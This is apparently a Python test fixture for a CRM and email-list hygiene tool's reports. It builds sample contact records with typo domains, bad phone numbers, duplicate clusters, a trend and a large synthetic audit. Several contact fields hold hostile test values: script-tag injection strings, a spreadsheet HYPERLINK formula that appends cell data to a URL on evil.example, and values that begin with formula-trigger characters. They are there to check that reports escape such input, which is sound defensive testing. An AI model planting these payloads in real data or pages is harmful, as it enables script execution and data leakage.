"""A small audit for the report tests: a CRM and an ESP with real-world defects, hostile
values (markup, formulas) in contact fields, two duplicate clusters and a trend."""

from __future__ import annotations

import hygiene
from hygiene.model import Trend
from hygiene.results import Audit
from tests.helpers import make_source

#: Markup in a first name and an email address: the reports must show it as text.
SCRIPT_NAME = "<script>window.__pwned=1</script>"
SCRIPT_EMAIL = "<script>window.__pwned=2</script>@x.com"
#: A company that a spreadsheet would run as a formula.
FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

CRM_COLUMNS = {
    "Record ID": "record_id",
    "First Name": "first_name",
    "Last Name": "last_name",
    "Email": "email",
    "Phone Number": "phone",
    "Company Name": "company",
    "Country/Region": "country",
    "Lifecycle Stage": "lifecycle_stage",
    "Contact owner": "owner",
    "Marketing contact status": "marketable",
}
CRM_ROWS = [
    ("101", "Ann", "Lee", "ann@gmial.com", "+1 415 555 2671", "Acme", "United States", "Lead",
     "Jo Park", "Marketing contact"),
    ("102", "Bob", "Stone", "bob@acme.com", "(415) 555-0199", "Acme", "USA", "Customer",
     "Jo Park", "Marketing contact"),
    ("103", SCRIPT_NAME, "Test", SCRIPT_EMAIL, "1234567890", FORMULA_COMPANY, "United States",
     "Lead", "", "Marketing contact"),
    ("104", "Ann", "Lee", "ann.lee@acme.com", "+1 415 555 2671", "Acme Inc", "United States",
     "lead", "Jo Park", "Marketing contact"),
    ("105", "Cy", "Ng", "cy@acme", "", "Acme", "United States", "Lead", "Jo Park",
     "Marketing contact"),
    ("106", "Dee", "O'Neil", "dee@mailinator.com", "+44 20 7946 0958", "", "United Kingdom",
     "Subscriber", "Mo Diaz", "Non-marketing contact"),
    ("107", "Evan", "Wu", "info@wu-design.com", "+1 212 555 0143", "-Wu Design", "U.S.",
     "Lead", "Mo Diaz", "Marketing contact"),
    ("108", "<b>Fay</b>", "Test", "fay@test.com", "+1 646 555 0100", "@Fay Co", "United States",
     "Lead", "Mo Diaz", "Marketing contact"),
]  # fmt: skip
ESP_COLUMNS = {
    "Email Address": "email",
    "First Name": "first_name",
    "Last Name": "last_name",
    "Member Status": "email_status",
    "OPTIN_TIME": "consent_date",
}
ESP_ROWS = [
    ("ann@gmail.com", "Ann", "Lee", "subscribed", "2024-01-02 10:00:00"),
    ("bob@acme.com", "Bob", "Stone", "subscribed", "2024-01-03 10:00:00"),
    ("gil@yahoo.com", "Gil", "Roy", "unsubscribed", "2024-02-01 10:00:00"),
    ("hal@hotmail.com", "Hal", "Poe", "cleaned", "2024-02-02 10:00:00"),
]  # fmt: skip

DUPLICATES = [
    {
        "cluster": 1,
        "confidence": 0.93,
        "members": [
            {"source": "crm", "file": "contacts.csv", "row": 1, "record_id": "101"},
            {"source": "crm", "file": "contacts.csv", "row": 4, "record_id": "104"},
        ],
        "survivor": {"source": "crm", "row": 4},
        "evidence": ["name 0.97", "phone equal"],
    },
    {
        "cluster": 2,
        "confidence": 0.71,
        "members": [
            {"source": "crm", "file": "contacts.csv", "row": 3, "record_id": "103"},
            {"source": "crm", "file": "contacts.csv", "row": 8, "record_id": "108"},
        ],
        "survivor": {"source": "crm", "row": 8},
        "evidence": ["last name equal"],
    },
]

TREND = Trend(
    previous_at="2026-11-10T09:00:00+00:00",
    previous_overall=61.2,
    overall_delta=4.3,
    dimension_deltas={"validity": 6.0, "completeness": -1.5},
    workflow_deltas={"newsletter": 12.5},
    new_findings=3,
    fixed_findings=9,
    new_by_code={"email.typo_domain": 2, "phone.invalid": 1},
    fixed_by_code={"email.invalid_syntax": 9},
    history=[("2026-10-01T09:00:00+00:00", 55.0), ("2026-11-10T09:00:00+00:00", 61.2)],
)


def crm_source():
    columns = list(CRM_COLUMNS)
    data = {c: [r[i] or None for r in CRM_ROWS] for i, c in enumerate(columns)}
    return make_source("crm", data, CRM_COLUMNS, platform="hubspot")


def esp_source():
    columns = list(ESP_COLUMNS)
    data = {c: [r[i] for r in ESP_ROWS] for i, c in enumerate(columns)}
    return make_source("esp", data, ESP_COLUMNS, platform="mailchimp", file="members.csv")


def sample_audit(duplicates: bool = True, trend: bool = True) -> Audit:
    """The audit of CRM_ROWS and ESP_ROWS with every workflow, clusters and a trend."""
    # The clusters are hand-made (DUPLICATES), so the matcher is not run.
    result = hygiene.audit(crm_source(), esp_source(), match=False)
    if duplicates:
        result.duplicates = [dict(d) for d in DUPLICATES]
    if trend:
        result.trend = TREND
    return result


#: Codes, severities and dimensions of the synthetic findings of `large_audit` (real rules).
LARGE_CODES = (
    ("email.invalid_syntax", "error", "validity", "email", "Email", "Not a deliverable address"),
    ("email.typo_domain", "error", "validity", "email", "Email", "Domain looks like a typo"),
    ("email.role_account", "warning", "validity", "email", "Email", "Role mailbox"),
    ("phone.invalid", "warning", "validity", "phone", "Phone Number", "Cannot be a real number"),
    ("value.placeholder", "warning", "validity", "first_name", "First Name", "Filler value"),
    ("field.inconsistent", "info", "consistency", "country", "Country/Region",
     "Non-canonical spelling"),
    ("field.missing_required", "error", "completeness", "last_name", "Last Name",
     "A field the workflows need is empty"),
)  # fmt: skip


def large_audit(rows: int = 1_000_000, findings: int = 1_000_000, clusters: int = 50_000,
                seed: int = 1) -> Audit:
    """An audit of a `rows`-row CRM and a 70% ESP with `findings` findings and `clusters`
    duplicate pairs, built straight from arrays (no checks run): what report.html embeds
    from an audit of that size. Values are varied (every record distinct) so nothing
    compresses to a few repeated strings."""
    import numpy as np
    import pandas as pd
    import pyarrow as pa
    import pyarrow.compute as pc

    from hygiene.checks.rules import load_rules
    from hygiene.load.table import as_series
    from hygiene.match import Cluster, MatchResult
    from hygiene.model import Source, compact_findings
    from hygiene.score import DuplicateSet, compute
    from hygiene.workflows import load_workflows

    rng = np.random.default_rng(seed)
    firsts = ["Ann", "Bob", "Cy", "Dee", "Evan", "Fay", "Gil", "Hal", "Ines", "José", "Kenneth",
              "Lena", "Mo", "Nia", "Olu", "Priya"]
    lasts = ["Lee", "Stone", "Ng", "O'Neil", "Wu", "Roy", "Poe", "Holmes", "García", "Müller",
             "Smith", "Khan", "Rossi", "Kowalski"]
    countries = ["United States", "USA", "U.S.", "United Kingdom", "Germany", "France",
                 "Canada", None, "Spain"]

    # Built in Arrow: Python strings for a million rows are slow.
    def pick(values: list[str | None], n: int) -> pa.Array:
        return pa.array(values, pa.large_string()).take(rng.integers(0, len(values), n))

    def cat(*parts: object) -> pa.Array:
        typed = [p if isinstance(p, pa.Array) else pa.scalar(p, pa.large_string())
                 for p in parts]
        return pc.binary_join_element_wise(*typed, pa.scalar("", pa.large_string()))

    def numbers(n: int, high: int | None = None) -> pa.Array:
        values = np.arange(n) if high is None else rng.integers(0, high, n)
        return pc.cast(pa.array(values), pa.large_string())

    def people(n: int, tag: str) -> dict[str, pa.Array]:
        i = numbers(n)
        first, last = pick(firsts, n), pick(lasts, n)
        return {"first": first, "last": last, "i": i,
                "email": cat(pc.utf8_lower(first), ".", i, f"@{tag}-example.com")}

    def source(name: str, data: dict[str, object], columns: dict[str, str], platform: str,
               file: str, n: int) -> Source:
        frame = pd.DataFrame({
            k: as_series(v if isinstance(v, pa.Array) else pa.array([v] * n, pa.large_string()))
            for k, v in data.items()
        })
        prov = pd.DataFrame({"file": pd.Categorical([file] * n),
                             "sheet": pd.Categorical([None] * n),
                             "row": np.arange(1, n + 1, dtype=np.int64)})
        return Source(name=name, platform=platform, data=frame, provenance=prov,
                      columns=dict(columns), confidence=dict.fromkeys(columns, 1.0))

    crm_p = people(rows, "crm")
    crm = source("crm", {
        "Record ID": cat("5", crm_p["i"]),
        "First Name": crm_p["first"],
        "Last Name": crm_p["last"],
        "Email": crm_p["email"],
        "Phone Number": cat("+1 415 555 ", pc.utf8_lpad(numbers(rows, 10_000), 4, "0")),
        "Company Name": cat("Acme ", numbers(rows, 5000)),
        "Country/Region": pick(countries, rows),
        "Lifecycle Stage": pick(["Lead", "Customer", "Subscriber", "lead"], rows),
        "Contact owner": pick(["Jo Park", "Mo Diaz", None], rows),
        "Marketing contact status": "Marketing contact",
    }, CRM_COLUMNS, "hubspot", "contacts.csv", rows)
    esp_n = int(rows * 0.7)
    esp_p = people(esp_n, "esp")
    esp = source("esp", {"Email Address": esp_p["email"], "First Name": esp_p["first"],
                         "Last Name": esp_p["last"], "Member Status": "subscribed",
                         "OPTIN_TIME": "2024-01-02 10:00:00"},
                 ESP_COLUMNS, "mailchimp", "members.csv", esp_n)

    k = rng.integers(0, len(LARGE_CODES), findings)
    pos = rng.integers(0, rows, findings)
    table = np.array(LARGE_CODES, dtype=object)
    emails = crm_p["email"].take(pos)
    frame = pd.DataFrame({
        "code": table[k, 0], "severity": table[k, 1], "dimension": table[k, 2],
        "source": "crm", "file": "contacts.csv", "sheet": None,
        "row": pos + 1, "record_id": as_series(cat("5", pc.cast(pa.array(pos), pa.large_string()))),
        "field": table[k, 3], "column": table[k, 4],
        "value": as_series(emails), "suggestion": None, "message": table[k, 5], "related": None,
        "pos": pos,
    })
    compact_findings(frame)

    left = rng.choice(rows, size=clusters * 2, replace=False)
    made = [
        Cluster(id=c + 1, source="crm", members=sorted((int(a), int(b))),
                confidence=float(0.55 + 0.45 * ((c * 7919) % 1000) / 1000), survivor=int(a),
                evidence=["name 0.97", "phone equal"],
                survivor_reason="most complete (9 of 14 fields)")
        for c, (a, b) in enumerate(left.reshape(-1, 2).tolist())
    ]
    redundant = np.sort(left.reshape(-1, 2)[:, 1])
    workflows = list(load_workflows().values())
    kinds = {"crm": "crm", "esp": "esp"}
    rules = load_rules()
    score = compute(frame, [crm, esp], workflows, kinds, [DuplicateSet("crm", redundant)],
                    {r.code: r.title for r in rules})
    return Audit(sources=[crm, esp], findings=frame, score=score, workflows=workflows,
                 rules=rules, match=MatchResult(clusters=made))
